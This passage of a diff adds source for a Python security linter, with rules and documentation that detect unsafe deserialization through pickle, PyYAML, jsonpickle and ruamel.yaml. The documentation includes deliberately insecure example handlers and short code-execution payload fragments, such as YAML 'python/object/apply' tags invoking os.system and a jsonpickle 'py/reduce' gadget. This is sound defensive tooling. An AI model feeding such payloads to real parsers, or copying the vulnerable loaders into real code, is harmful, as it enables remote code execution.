+// src/rules/rule.ts
+function defineRule(rule) {
+  return rule;
+}
+function code(s) {
+  return "`" + s + "`";
+}
+
+// src/rules/python/shared-docs.ts
+var DESERIALIZATION_COMPLIANCE = [
+  { framework: "CWE Top 25", control: "CWE-502 Deserialization of Untrusted Data" },
+  { framework: "OWASP Top 10", control: "A08:2021 Software and Data Integrity Failures" },
+  { framework: "NIST SP 800-53", control: "SI-10 Information Input Validation" },
+  { framework: "PCI DSS v4.0", control: "6.2.4 Software engineering techniques prevent common attacks" }
+];
+var DESERIALIZATION_REFERENCES = [
+  { title: "CWE-502: Deserialization of Untrusted Data", url: "https://cwe.mitre.org/data/definitions/502.html" },
+  { title: "OWASP Top 10 A08:2021 Software and Data Integrity Failures", url: "https://owasp.org/Top10/A08_2021-Software_and_Data_Integrity_Failures/" },
+  { title: "OWASP Deserialization Cheat Sheet", url: "https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html" },
+  { title: "Python documentation: pickle (security warning)", url: "https://docs.python.org/3/library/pickle.html" },
+  { title: "Bandit B301: pickle", url: "https://bandit.readthedocs.io/en/latest/blacklists/blacklist_calls.html#b301-pickle" }
+];
+
+// src/rules/python/PYTHON-LANG-SEC-040.ts
+var PICKLE_SINKS = ["pickle.loads", "pickle.load", "pickle.Unpickler", "pickle._loads", "pickle._load", "pickle._Unpickler"];
+function message(m) {
+  const spelled2 = m.calleeText === m.target ? code(m.target) : `${code(m.calleeText)} (${m.target})`;
+  switch (m.via) {
+    case "subclass":
+      return `${code(m.subclass.name)} subclasses ${m.target} and unpickles its input` + (m.subclass.overridesFindClass ? "; overriding find_class narrows what loads but does not make untrusted data safe: restricted unpicklers are routinely bypassed" : "") + ". Use a data-only format for untrusted input.";
+    case "reference":
+      return `${spelled2} is passed as a callable: every value it is applied to is unpickled, which can run arbitrary code. Use a data-only format for untrusted input.`;
+    default:
+      return `${spelled2} deserializes with pickle, which runs whatever code the bytes describe. Never unpickle data that could come from an untrusted source; use a data-only format such as JSON.`;
+  }
+}
+var PYTHON_LANG_SEC_040_default = defineRule({
+  id: "PYTHON-LANG-SEC-040",
+  name: "Pickle Deserialization of Untrusted Data",
+  language: "python",
+  severity: "high",
+  confidence: "high",
+  precision: "high",
+  cwe: ["CWE-502"],
+  owasp: ["A08:2021"],
+  compliance: DESERIALIZATION_COMPLIANCE,
+  tags: ["security", "deserialization", "pickle", "rce", "cwe-502"],
+  bundles: ["lang", "deserialization"],
+  banditIds: ["B301"],
+  similar: ["PYTHON-LANG-SEC-044", "PYTHON-LANG-SEC-045", "PYTHON-LANG-SEC-046", "PYTHON-ML-SEC-003", "PYTHON-ML-SEC-005"],
+  prefilter: ["pickle", "Pickle"],
+  sinks: [{ call: PICKLE_SINKS, subclasses: true, references: true, message }],
+  docs: {
+    summary: "Detects pickle deserialization (`pickle.loads`, `pickle.load`, `pickle.Unpickler`), which executes arbitrary code from its input.",
+    description: 'Python\'s `pickle` format is a small stack-based program, not a data format. Loading a pickle runs that program: it can import any module and call any function with any arguments (`os.system`, `subprocess.Popen`, `eval`, ...). This rule reports every call that unpickles: `pickle.loads`, `pickle.load`, `pickle.Unpickler(...)` and its subclasses, and the same functions reached through `cPickle`, `_pickle`, `pickle5`, `six.moves.cPickle`, import aliases, `from pickle import *`, rebinding (`loader = pickle.loads`), `importlib.import_module("pickle")`, `__import__("pickle")`, `getattr(pickle, "loads")` and `functools.partial`. It also reports `pickle.loads` passed uncalled as a callback (`map(pickle.loads, blobs)`).',
+    securityImplications: "Anyone who can influence the bytes that reach the unpickler can run code with the privileges of the process: read secrets and credentials, move laterally, install a backdoor, or tamper with data. Typical entry points are request bodies, cookies and session stores, message queues, caches (Redis, memcached), files uploaded by users, and model or data files downloaded from the internet. There is no safe subset of pickle and no way to sanitize a payload before loading it; restricting `find_class` in an `Unpickler` subclass reduces the attack surface but has been bypassed repeatedly (gadgets in allowed modules, `getattr` chains, nested pickles).",
+    howToFix: "Do not unpickle data that crosses a trust boundary. Serialize with a data-only format instead: `json`, `msgpack`, Protocol Buffers, or `safetensors` for tensors and model weights. If pickle must stay for data the process produced itself, authenticate it before loading (an HMAC with a server-side key, verified with `hmac.compare_digest`), keep it out of reach of users, and treat the key as a secret.",
+    fixHint: "Use a data-only format (json, msgpack, safetensors) or verify an HMAC before unpickling data you produced yourself.",
+    vulnerableExample: [
+      "import pickle",
+      "from flask import request",
+      "",
+      '@app.route("/session", methods=["POST"])',
+      "def restore_session():",
+      "    session = pickle.loads(request.data)  # attacker-controlled bytes run as code",
+      '    return session["user"]'
+    ].join("\n"),
+    safeExample: [
+      "import json",
+      "from flask import request",
+      "",
+      '@app.route("/session", methods=["POST"])',
+      "def restore_session():",
+      "    session = json.loads(request.data)  # data only: no code runs",
+      '    return session["user"]'
+    ].join("\n"),
+    detectionScope: 'Every call of `pickle.loads`, `pickle.load`, `pickle.Unpickler` (and the pure-Python `_loads`, `_load`, `_Unpickler`) resolved through the file\'s imports and bindings: aliases, `from pickle import ...`, star imports, `cPickle`/`_pickle`/`pickle5`/`six.moves.cPickle`, `try`/`except ImportError` fallbacks, rebinding, `importlib.import_module`/`__import__` with constant module names (also built by concatenation), `getattr(module, "loads")`, `sys.modules["pickle"]`, `functools.partial`, instantiation of classes in the same file that derive from `pickle.Unpickler` (with or without a `find_class` override), and sink functions passed as callbacks. Names shadowed by parameters, locals or attributes are not reported; strings and comments never match. `pickle.dumps`/`pickle.dump` are not findings. Not covered: calls through wrappers defined in other modules (add them as custom sinks in the configuration) and modules named by run-time strings. Every call is reported regardless of where its data comes from, because pickle has no safe input in practice; suppress a reviewed call with `# pathfinder: ignore[PYTHON-LANG-SEC-040]`.',
+    references: DESERIALIZATION_REFERENCES,
+    faq: [
+      {
+        question: "The data comes from our own cache or database. Is this a false positive?",
+        answer: "Only if no attacker can ever write to that store. Caches, queues and databases are frequent pivot points: an injection or SSRF elsewhere becomes code execution here. Prefer a data-only format; otherwise sign the payload with an HMAC and verify it before loading, then suppress the finding with a justification."
+      },
+      {
+        question: "We subclassed Unpickler and restricted find_class. Why is it still reported?",
+        answer: "A restricted unpickler is a denylist or allowlist over a Turing-complete format. Published bypasses abuse allowed globals (`getattr`, `operator`, `functools`, numpy and torch helpers) and nested pickles. Keep the restriction as defence in depth, but do not feed it untrusted data."
+      },
+      {
+        question: "Is `pickle.dumps` dangerous?",
+        answer: "No. Serializing runs no attacker-controlled code; only loading does. `dump`/`dumps` are never reported."
+      },
+      {
+        question: "Does this rule also cover joblib, torch.load, numpy.load or dill?",
+        answer: "Those libraries unpickle under the hood and have their own rules (see similar rules) so that each can check its own safe options, such as `weights_only=True` or `allow_pickle=False`."
+      }
+    ]
+  }
+});
+
+// src/rules/python/sink-helpers.ts
+function literalTruth(node, source) {
+  if (!node) return void 0;
+  let n = node;
+  while (n.type === "parenthesized_expression" && n.children.length === 1) n = n.children[0];
+  switch (n.type) {
+    case "true":
+      return true;
+    case "false":
+    case "none":
+      return false;
+    case "integer":
+    case "float": {
+      const value = Number(source.slice(n.start, n.end).replace(/_/g, ""));
+      return Number.isNaN(value) ? void 0 : value !== 0;
+    }
+    case "string": {
+      const value = decodeStringLiteral(source.slice(n.start, n.end));
+      return value === void 0 ? void 0 : value.length > 0;
+    }
+    default:
+      return void 0;
+  }
+}
+function namesOf(m, node) {
+  return [...new Set(m.model.resolve(node, m.scope).map((r) => r.name))];
+}
+function classNamesOf(m, node) {
+  const own = [];
+  const ancestors = [];
+  for (const r of m.model.resolve(node, m.scope)) {
+    own.push(r.name);
+    if (r.localClass) for (const a of m.model.classAncestors(r.localClass, m.scope)) ancestors.push(a.name);
+  }
+  return { own: [...new Set(own)], ancestors: [...new Set(ancestors)] };
+}
+function spelled(m) {
+  return m.calleeText === m.target ? code(m.target) : `${code(m.calleeText)} (${m.target})`;
+}
+function replaceNode(node, newText) {
+  return {
+    line: node.startRow + 1,
+    column: node.startCol + 1,
+    endLine: node.endRow + 1,
+    endColumn: node.endCol + 1,
+    newText
+  };
+}
+function calleeAttributeName(call) {
+  const callee = childByField(call, "function");
+  return callee?.type === "attribute" ? childByField(callee, "attribute") : void 0;
+}
+function appendKeywordArgument(m, text) {
+  if (m.args.hasKwArgs || m.args.hasStarArgs) return void 0;
+  const list = childByField(m.node, "arguments");
+  if (!list || list.type !== "argument_list") return void 0;
+  const args2 = list.children.filter((c) => c.type !== "comment");
+  const last = args2[args2.length - 1];
+  if (!last) return void 0;
+  return { line: last.endRow + 1, column: last.endCol + 1, endLine: last.endRow + 1, endColumn: last.endCol + 1, newText: `, ${text}` };
+}
+function fix(description2, edits) {
+  const present = edits.filter((e) => e !== void 0);
+  return present.length === edits.length && present.length ? { description: description2, edits: present } : void 0;
+}
+function unpicklingMessage(what, advice) {
+  return (m) => {
+    switch (m.via) {
+      case "subclass":
+        return `${code(m.subclass.name)} subclasses ${m.target} and deserializes its input with ${what}, which can run arbitrary code. ${advice}`;
+      case "reference":
+        return `${spelled(m)} is passed as a callable: every value it is applied to is deserialized with ${what}, which can run arbitrary code. ${advice}`;
+      default:
+        return `${spelled(m)} deserializes with ${what}, which runs whatever code the bytes describe. ${advice}`;
+    }
+  };
+}
+
+// src/rules/python/PYTHON-LANG-SEC-041.ts
+var SAFE_LOADERS = /* @__PURE__ */ new Set(["yaml.SafeLoader", "yaml.CSafeLoader", "yaml.BaseLoader", "yaml.CBaseLoader"]);
+var UNSAFE_LOADERS = /* @__PURE__ */ new Set(["yaml.Loader", "yaml.UnsafeLoader", "yaml.CLoader", "yaml.CUnsafeLoader"]);
+var FULL_LOADERS = /* @__PURE__ */ new Set(["yaml.FullLoader", "yaml.CFullLoader"]);
+var SAFE_EQUIVALENT = { FullLoader: "SafeLoader", CFullLoader: "CSafeLoader" };
+function classify(names) {
+  if (names.some((n) => UNSAFE_LOADERS.has(n))) return "unsafe";
+  if (names.some((n) => FULL_LOADERS.has(n))) return "full";
+  if (names.length && names.every((n) => SAFE_LOADERS.has(n))) return "safe";
+  return void 0;
+}
+function checkLoad(m) {
+  const given = m.args.find("Loader", 1);
+  const loader = given?.type === "none" ? void 0 : given;
+  const safeName = m.target.endsWith("_all") ? "safe_load_all" : "safe_load";
+  if (!loader) {
+    if (m.args.mayBeHidden("Loader", 1)) {
+      return {
+        confidence: "medium",
+        message: `${spelled(m)} receives its Loader through \`*args\`/\`**kwargs\`; unless it is \`SafeLoader\`, YAML tags such as \`!!python/object/apply\` run arbitrary code. Use \`yaml.${safeName}\`.`
+      };
+    }
+    const attribute = calleeAttributeName(m.node);
+    return {
+      message: `${spelled(m)} without a Loader uses an unsafe loader on PyYAML < 6 (\`Loader\` before 5.1, an exploitable \`FullLoader\` until 5.4): YAML tags such as \`!!python/object/apply:os.system\` run arbitrary code. Use \`yaml.${safeName}\`.`,
+      ...attribute ? { fix: fix(`Use yaml.${safeName}`, [replaceNode(attribute, safeName)]) } : {}
+    };
+  }
+  const { own, ancestors } = classNamesOf(m, loader);
+  const known = [...own, ...ancestors].filter((n) => !n.startsWith("<local>."));
+  const kind = classify(known) ?? "unknown";
+  const loaderText = m.model.text(loader).replace(/\s+/g, "");
+  switch (kind) {
+    case "safe":
+      return null;
+    case "unsafe":
+      return {
+        message: `${spelled(m)} with ${code(loaderText)} constructs arbitrary Python objects: tags such as \`!!python/object/apply:os.system\` run code. Use \`yaml.${safeName}\` (or \`Loader=yaml.SafeLoader\`).`
+      };
+    case "full":
+      return fullLoaderOutcome(m, `${spelled(m)} with ${code(loaderText)}`, loaderFix(loader, m));
+    case "unknown":
+      return {
+        confidence: "medium",
+        message: `${spelled(m)} uses the loader ${code(loaderText)}, which is not known to be safe; loaders other than \`SafeLoader\`/\`BaseLoader\` construct Python objects from tags and can run code. Use \`yaml.${safeName}\`.`
+      };
+  }
+}
+function loaderFix(loader, m) {
+  if (loader.type !== "attribute") return void 0;
+  const name2 = childByField(loader, "attribute");
+  const safe = name2 && SAFE_EQUIVALENT[m.model.text(name2)];
+  return name2 && safe ? fix(`Use yaml.${safe}`, [replaceNode(name2, safe)]) : void 0;
+}
+function fullLoaderOutcome(m, what, fixed) {
+  const severity = "medium";
+  const confidence = "high";
+  return {
+    severity,
+    confidence,
+    message: `${what} uses FullLoader, which builds arbitrary Python objects from tags; it allowed code execution before PyYAML 5.4 (CVE-2020-1747, CVE-2020-14343) and still exposes more than data. Use \`yaml.safe_load\` for untrusted input.`,
+    ...fixed ? { fix: fixed } : {}
+  };
+}
+function checkFullLoad(m) {
+  const attribute = calleeAttributeName(m.node);
+  const safeName = m.target.endsWith("_all") ? "safe_load_all" : "safe_load";
+  return fullLoaderOutcome(m, spelled(m), attribute ? fix(`Use yaml.${safeName}`, [replaceNode(attribute, safeName)]) : void 0);
+}
+var unsafeMessage = (m) => `${spelled(m)} uses PyYAML's unsafe loader: tags such as \`!!python/object/apply:os.system\` run arbitrary code. Use \`yaml.safe_load\` for anything not fully trusted.`;
+var LOADER_METHODS = ["get_single_data", "get_data"];
+var methodsOf = (classes) => [...classes].flatMap((c) => LOADER_METHODS.map((m) => `${c}().${m}`));
+var PYTHON_LANG_SEC_041_default = defineRule({
+  id: "PYTHON-LANG-SEC-041",
+  name: "Unsafe PyYAML Load",
+  language: "python",
+  severity: "high",
+  confidence: "high",
+  precision: "high",
+  cwe: ["CWE-502"],
+  owasp: ["A08:2021"],
+  compliance: DESERIALIZATION_COMPLIANCE,
+  tags: ["security", "deserialization", "yaml", "pyyaml", "rce", "cwe-502"],
+  bundles: ["lang", "deserialization"],
+  banditIds: ["B506"],
+  similar: ["PYTHON-LANG-SEC-043", "PYTHON-LANG-SEC-040", "PYTHON-LANG-SEC-042"],
+  prefilter: ["yaml"],
+  sinks: [
+    { call: ["yaml.load", "yaml.load_all"], check: checkLoad, message: unsafeMessage },
+    { call: ["yaml.unsafe_load", "yaml.unsafe_load_all", ...methodsOf(UNSAFE_LOADERS)], message: unsafeMessage },
+    { call: ["yaml.full_load", "yaml.full_load_all"], check: checkFullLoad, message: unsafeMessage },
+    { call: methodsOf(FULL_LOADERS), check: (m) => fullLoaderOutcome(m, spelled(m), void 0), message: unsafeMessage }
+  ],
+  docs: {
+    summary: "Detects PyYAML loads with an unsafe loader (`yaml.load` without `Loader` or with `Loader`/`UnsafeLoader`/`FullLoader`, `yaml.unsafe_load`, `yaml.full_load`), which can construct arbitrary Python objects and run code.",
+    description: 'PyYAML\'s non-safe loaders interpret Python-specific tags: `!!python/object/apply:os.system ["id"]` calls a function, `!!python/object/new:` instantiates any class, `!!python/name:` imports any attribute. A YAML document is then no longer data but a program. This rule reports `yaml.load` and `yaml.load_all` when the `Loader` argument (keyword or second positional argument) is missing, is `Loader`, `UnsafeLoader`, `CLoader`, `CUnsafeLoader`, `FullLoader` or `CFullLoader`, or is a loader it cannot prove safe; it reports `yaml.unsafe_load`/`unsafe_load_all` always, and `yaml.full_load`/`full_load_all` (and `FullLoader`) at medium severity. Loaders are resolved through aliases (`from yaml import CLoader as L`), the `yaml.loader`/`yaml.cyaml` modules, and local subclasses (`class MyLoader(yaml.SafeLoader)` is safe).',
+    securityImplications: 'Whoever controls the YAML text (a configuration file from a pull request, an uploaded manifest, a CI job definition, an API body) runs code in the loading process: `!!python/object/apply:subprocess.check_output [["sh", "-c", "..."]]` is enough. Before PyYAML 5.1 plain `yaml.load(data)` was unsafe by default; from 5.1 to 5.3.1 the default `FullLoader` was still exploitable (CVE-2020-1747, CVE-2020-14343); since 6.0 `Loader` is mandatory, so old code either crashes or gets "fixed" by adding `Loader=yaml.Loader`, which restores the unsafe behaviour explicitly.',
+    howToFix: "Use `yaml.safe_load` / `yaml.safe_load_all` (or `Loader=yaml.SafeLoader`, `yaml.CSafeLoader` for speed). They build only plain data: dicts, lists, strings, numbers, booleans, dates. If you need custom types, register explicit constructors on a `SafeLoader` subclass with `add_constructor` rather than enabling Python tags.",
+    fixHint: "Use yaml.safe_load(...) or pass Loader=yaml.SafeLoader.",
+    vulnerableExample: [
+      "import yaml",
+      "",
+      "def read_manifest(text):",
+      "    return yaml.load(text, Loader=yaml.Loader)  # !!python/object/apply runs code"
+    ].join("\n"),
+    safeExample: [
+      "import yaml",
+      "",
+      "def read_manifest(text):",
+      "    return yaml.safe_load(text)  # plain data only"
+    ].join("\n"),
+    detectionScope: "Calls of `yaml.load`, `yaml.load_all` (Loader checked as keyword `Loader` or positional argument 1), `yaml.unsafe_load`, `yaml.unsafe_load_all`, `yaml.full_load`, `yaml.full_load_all`, and direct use of an unsafe loader object (`yaml.Loader(stream).get_single_data()`), resolved through imports, aliases, rebinding and dynamic imports with constant names. Safe: `SafeLoader`, `CSafeLoader`, `BaseLoader`, `CBaseLoader` and local subclasses of them. A Loader passed through `**kwargs` or a name the analysis cannot resolve (a parameter, an attribute) is reported at medium confidence. `yaml.dump`, `yaml.safe_load` and `yaml.safe_dump` are never reported. Fixes: `yaml.load(x)` becomes `yaml.safe_load(x)`, `yaml.full_load` becomes `yaml.safe_load` and `Loader=yaml.FullLoader` becomes `Loader=yaml.SafeLoader`; an explicit `Loader`/`UnsafeLoader` gets no automatic fix because the code may rely on Python tags. ruamel.yaml is covered by PYTHON-LANG-SEC-043.",
+    references: [
+      { title: "PyYAML: yaml.load(input) deprecation (why load is unsafe)", url: "https://github.com/yaml/pyyaml/wiki/PyYAML-yaml.load(input)-Deprecation" },
+      { title: "PyYAML documentation: loading YAML", url: "https://pyyaml.org/wiki/PyYAMLDocumentation" },
+      { title: "CVE-2020-14343: PyYAML FullLoader arbitrary code execution", url: "https://nvd.nist.gov/vuln/detail/CVE-2020-14343" },
+      { title: "CVE-2020-1747: PyYAML FullLoader arbitrary code execution", url: "https://nvd.nist.gov/vuln/detail/CVE-2020-1747" },
+      { title: "CVE-2017-18342: PyYAML load() unsafe by default", url: "https://nvd.nist.gov/vuln/detail/CVE-2017-18342" },
+      { title: "Bandit B506: yaml_load", url: "https://bandit.readthedocs.io/en/latest/plugins/b506_yaml_load.html" },
+      { title: "Ruff S506: unsafe-yaml-load", url: "https://docs.astral.sh/ruff/rules/unsafe-yaml-load/" },
+      ...DESERIALIZATION_REFERENCES.slice(0, 3)
+    ],
+    faq: [
+      {
+        question: "We only load our own configuration files. Is this a false positive?",
+        answer: "It is safe only while nobody else can write those files. Configuration travels through pull requests, deployment tooling and shared volumes; `safe_load` reads every normal configuration file identically, so switching costs nothing."
+      },
+      {
+        question: "Is FullLoader safe?",
+        answer: "Not for untrusted input. It was the default between PyYAML 5.1 and 5.4 and was exploitable (CVE-2020-1747, CVE-2020-14343). Later versions block the known gadgets, but it still instantiates Python objects from tags. It is reported at medium severity."
+      },
+      {
+        question: "Why is `yaml.load(data, Loader=MyLoader)` reported at medium confidence?",
+        answer: "The analysis could not tell what `MyLoader` is (a parameter, an attribute, or a class from another module). If it derives from `SafeLoader`, define or import it so the base is visible, or suppress the finding with a justification."
+      },
+      {
+        question: "Does this cover ruamel.yaml?",
+        answer: "No: ruamel.yaml has its own API and rule, PYTHON-LANG-SEC-043."
+      }
+    ]
+  }
+});
+
+// src/rules/python/PYTHON-LANG-SEC-042.ts
+var ADVICE = "Decode untrusted JSON with `json.loads` and build objects explicitly (dataclasses, pydantic).";
+var message2 = unpicklingMessage("jsonpickle, whose `py/reduce` and `py/object` tags call arbitrary functions", ADVICE);
+function check(m) {
+  if (m.via !== "call" || m.target === "jsonpickle.Unpickler") return {};
+  const safe = m.args.find("safe");
+  if (!safe || literalTruth(safe, m.model.tree.source) !== false) return {};
+  return {
+    message: `${spelled(m)} with \`safe=False\` also evaluates \`py/repr\` values with eval(), on top of \`py/reduce\`/\`py/object\` tags that call arbitrary functions. ${ADVICE}`
+  };
+}
+var PYTHON_LANG_SEC_042_default = defineRule({
+  id: "PYTHON-LANG-SEC-042",
+  name: "Jsonpickle Deserialization of Untrusted Data",
+  language: "python",
+  severity: "high",
+  confidence: "high",
+  precision: "high",
+  cwe: ["CWE-502"],
+  owasp: ["A08:2021"],
+  compliance: DESERIALIZATION_COMPLIANCE,
+  tags: ["security", "deserialization", "jsonpickle", "json", "rce", "cwe-502"],
+  bundles: ["lang", "deserialization"],
+  banditIds: ["B301"],
+  similar: ["PYTHON-LANG-SEC-040", "PYTHON-LANG-SEC-041"],
+  prefilter: ["jsonpickle"],
+  sinks: [{ call: ["jsonpickle.decode", "jsonpickle.loads", "jsonpickle.Unpickler"], subclasses: true, references: true, check, message: message2 }],
+  docs: {
+    summary: "Detects jsonpickle decoding (`jsonpickle.decode`, `jsonpickle.loads`, `jsonpickle.Unpickler`), which rebuilds arbitrary Python objects and can run code.",
+    description: 'jsonpickle looks like JSON but carries pickle semantics: `{"py/reduce": [{"py/function": "os.system"}, ...]}` calls a function while decoding, `py/object` instantiates any importable class, and with `safe=False` `py/repr` values are passed to `eval`. The `safe` flag does not make decoding safe: `py/reduce` and `py/object` are honoured either way (CVE-2020-22083, disputed by the project as intended behaviour). This rule reports `jsonpickle.decode`, `jsonpickle.loads`, `jsonpickle.unpickler.decode`, and construction of `jsonpickle.Unpickler` (and local subclasses), through aliases, rebinding, constant dynamic imports, and when passed as a callback.',
+    securityImplications: "jsonpickle payloads are text, so they pass through places binary pickles would not: HTTP request bodies, cookies, database columns, Redis values, message queues and log pipelines. Anyone who can write such a value runs code in the decoding process.",
+    howToFix: "Parse untrusted input with `json.loads` and construct your objects explicitly, for example with dataclasses, `pydantic` models or `marshmallow` schemas, which validate fields instead of importing classes named by the data. Keep jsonpickle for data the process produced itself and no one else can modify.",
+    fixHint: "Use json.loads plus explicit construction (dataclasses/pydantic) instead of jsonpickle.decode.",
+    vulnerableExample: [
+      "import jsonpickle",
+      "from flask import request",
+      "",
+      '@app.post("/cart")',
+      "def restore_cart():",
+      "    cart = jsonpickle.decode(request.get_data(as_text=True))  # py/reduce runs code",
+      "    return cart.total()"
+    ].join("\n"),
+    safeExample: [
+      "import json",
+      "from flask import request",
+      "",
+      '@app.post("/cart")',
+      "def restore_cart():",
+      "    cart = Cart.from_dict(json.loads(request.get_data()))  # explicit, validated fields",
+      "    return cart.total()"
+    ].join("\n"),
+    detectionScope: "Calls of `jsonpickle.decode`, `jsonpickle.loads`, `jsonpickle.unpickler.decode` and `jsonpickle.Unpickler` / `jsonpickle.unpickler.Unpickler` resolved through imports, aliases, rebinding and constant dynamic imports; instantiation of local subclasses of `Unpickler`; the decode functions passed uncalled as callbacks (medium confidence). `jsonpickle.encode`/`dumps` are not findings. Every decode is reported whatever its `safe`, `classes` or `keys` arguments, because none of them blocks `py/reduce`.",
+    references: [
+      { title: "jsonpickle documentation (security warning)", url: "https://jsonpickle.github.io/" },
+      { title: "jsonpickle API: decode", url: "https://jsonpickle.github.io/api.html" },
+      { title: "CVE-2020-22083 / GHSA-j66q-qmrc-89rx: jsonpickle remote code execution in decode()", url: "https://github.com/advisories/GHSA-j66q-qmrc-89rx" },
+      { title: "Bandit B301: pickle (includes jsonpickle)", url: "https://bandit.readthedocs.io/en/latest/blacklists/blacklist_calls.html#b301-pickle" },
+      { title: "Ruff S301: suspicious-pickle-usage (includes jsonpickle)", url: "https://docs.astral.sh/ruff/rules/suspicious-pickle-usage/" },
+      ...DESERIALIZATION_REFERENCES.slice(0, 3)
+    ],
+    faq: [
+      {
+        question: "We pass `safe=True`. Why is it still reported?",
+        answer: "`safe` only disables `eval` of legacy `py/repr` values. `py/reduce` and `py/object`, which call functions and instantiate classes, are still processed; published exploits use them."
+      },
+      {
+        question: "Is jsonpickle output not just JSON?",
+        answer: "It is JSON syntax with pickle semantics. Reading it with `json.loads` is safe; reading it with jsonpickle is not."
+      },
+      { question: "Is `jsonpickle.encode` reported?", answer: "No. Encoding runs no attacker-controlled code." }
+    ]
+  }
+});
+
+// src/rules/python/PYTHON-LANG-SEC-043.ts
+var ADVICE2 = 'Use `YAML()` (round-trip) or `YAML(typ="safe")`, which build only plain data.';
+function typValues(m, typ, scope) {
+  if (typ.type === "list" || typ.type === "tuple") {
+    const out2 = [];
+    for (const item of typ.children) {
+      const s2 = m.model.constantString(item, scope);
+      if (s2 === void 0) return void 0;
+      out2.push(s2);
+    }
+    return out2;
+  }
+  const s = m.model.constantString(typ, scope);
+  return s === void 0 ? void 0 : [s];
+}
+function checkInstanceLoad(m) {
+  if (!m.receiver) return null;
+  const typ = m.receiver.args.find("typ");
+  if (!typ) {
+    if (!m.receiver.args.hasKwArgs) return null;
+    return {
+      severity: "medium",
+      confidence: "low",
+      message: `${spelled(m)} on a \`YAML(...)\` whose \`typ\` may come from \`**kwargs\`; with \`typ="unsafe"\` YAML tags such as \`!!python/object/apply\` run arbitrary code. ${ADVICE2}`
+    };
+  }
+  const values = typValues(m, typ, m.receiver.scope);
+  if (values === void 0) {
+    return {
+      confidence: "medium",
+      message: `${spelled(m)} on a \`YAML(typ=...)\` whose type the analysis cannot evaluate; with \`typ="unsafe"\` YAML tags such as \`!!python/object/apply\` run arbitrary code. ${ADVICE2}`
+    };
+  }
+  if (!values.includes("unsafe")) return null;
+  return {
+    message: `${spelled(m)} on \`YAML(typ="unsafe")\` constructs arbitrary Python objects from tags such as \`!!python/object/apply:os.system\`, which runs code. ${ADVICE2}`
+  };
+}
+var SAFE_LEGACY_LOADERS = /* @__PURE__ */ new Set([
+  "ruamel.yaml.SafeLoader",
+  "ruamel.yaml.CSafeLoader",
+  "ruamel.yaml.BaseLoader",
+  "ruamel.yaml.CBaseLoader",
+  "ruamel.yaml.RoundTripLoader"
+]);
+function checkLegacyLoad(m) {
+  const given = m.args.find("Loader", 1);
+  const loader = given?.type === "none" ? void 0 : given;
+  if (!loader) {
+    if (m.args.mayBeHidden("Loader", 1)) {
+      return { confidence: "medium", message: `${spelled(m)} may receive its Loader through \`*args\`/\`**kwargs\`; unless it is a safe loader, YAML tags run arbitrary code. ${ADVICE2}` };
+    }
+    return { message: `${spelled(m)} without a Loader uses ruamel.yaml's unsafe loader: tags such as \`!!python/object/apply:os.system\` run arbitrary code. ${ADVICE2}` };
+  }
+  const { own, ancestors } = classNamesOf(m, loader);
+  const known = [...own, ...ancestors].filter((n) => !n.startsWith("<local>."));
+  if (known.length && known.every((n) => SAFE_LEGACY_LOADERS.has(n))) return null;
+  const loaderText = m.model.text(loader).replace(/\s+/g, "");
+  const recognised = known.some((n) => n.startsWith("ruamel.yaml."));
+  return {
+    ...recognised ? {} : { confidence: "medium" },
+    message: `${spelled(m)} with ${code(loaderText)} ${recognised ? "constructs arbitrary Python objects" : "uses a loader not known to be safe"}: YAML tags such as \`!!python/object/apply\` can run code. ${ADVICE2}`
+  };
+}
+var PYTHON_LANG_SEC_043_default = defineRule({
+  id: "PYTHON-LANG-SEC-043",
+  name: "Unsafe ruamel.yaml Load",
+  language: "python",
+  severity: "high",
+  confidence: "high",
+  precision: "high",
+  cwe: ["CWE-502"],
+  owasp: ["A08:2021"],
+  compliance: DESERIALIZATION_COMPLIANCE,
+  tags: ["security", "deserialization", "yaml", "ruamel", "rce", "cwe-502"],
+  bundles: ["lang", "deserialization"],
+  banditIds: ["B506"],
+  similar: ["PYTHON-LANG-SEC-041", "PYTHON-LANG-SEC-040"],
+  prefilter: ["ruamel"],
+  sinks: [
+    { call: ["ruamel.yaml.YAML().load", "ruamel.yaml.YAML().load_all"], check: checkInstanceLoad, message: (m) => `${spelled(m)} may use an unsafe YAML loader. ${ADVICE2}` },
+    { call: ["ruamel.yaml.load", "ruamel.yaml.load_all"], check: checkLegacyLoad, message: (m) => `${spelled(m)} may use an unsafe YAML loader. ${ADVICE2}` }
+  ],
+  docs: {
+    summary: 'Detects ruamel.yaml loads that can construct arbitrary Python objects: `YAML(typ="unsafe").load` and the legacy `ruamel.yaml.load` without a safe Loader.',
+    description: 'ruamel.yaml\'s `YAML()` instance is safe by default: the round-trip (`rt`) and `safe` types build only data. `YAML(typ="unsafe")` (also `typ=["unsafe"]`) enables Python tags such as `!!python/object/apply:` and `!!python/object/new:`, which call functions and instantiate classes while loading. The PyYAML-compatible module functions of ruamel.yaml before 0.18 (`ruamel.yaml.load`, `load_all`) used the unsafe loader when no `Loader` was given. This rule reports `load`/`load_all` on instances constructed with `typ="unsafe"` (followed through variables and `with` statements), and the legacy functions without a Loader or with one that is not `SafeLoader`, `CSafeLoader`, `BaseLoader`, `CBaseLoader` or `RoundTripLoader`.',
+    securityImplications: "Whoever controls the YAML text (configuration in a repository, a manifest uploaded to a service, a document fetched over the network) runs code in the loading process, with its files, network access and credentials.",
+    howToFix: 'Use `YAML()` (round-trip, keeps comments) or `YAML(typ="safe")`. If documents need custom types, register them explicitly with `yaml.register_class(MyType)`, which loads only the classes you list. Replace legacy `ruamel.yaml.load(...)` calls with a `YAML()` instance: the module-level functions were removed in 0.18.',
+    fixHint: 'Use YAML() or YAML(typ="safe") and register_class for custom types instead of typ="unsafe".',
+    vulnerableExample: [
+      "from ruamel.yaml import YAML",
+      "",
+      "def read_job(text):",
+      '    yaml = YAML(typ="unsafe")',
+      "    return yaml.load(text)  # !!python/object/apply runs code"
+    ].join("\n"),
+    safeExample: [
+      "from ruamel.yaml import YAML",
+      "",
+      "def read_job(text):",
+      '    yaml = YAML(typ="safe")',
+      "    return yaml.load(text)  # plain data only"
+    ].join("\n"),
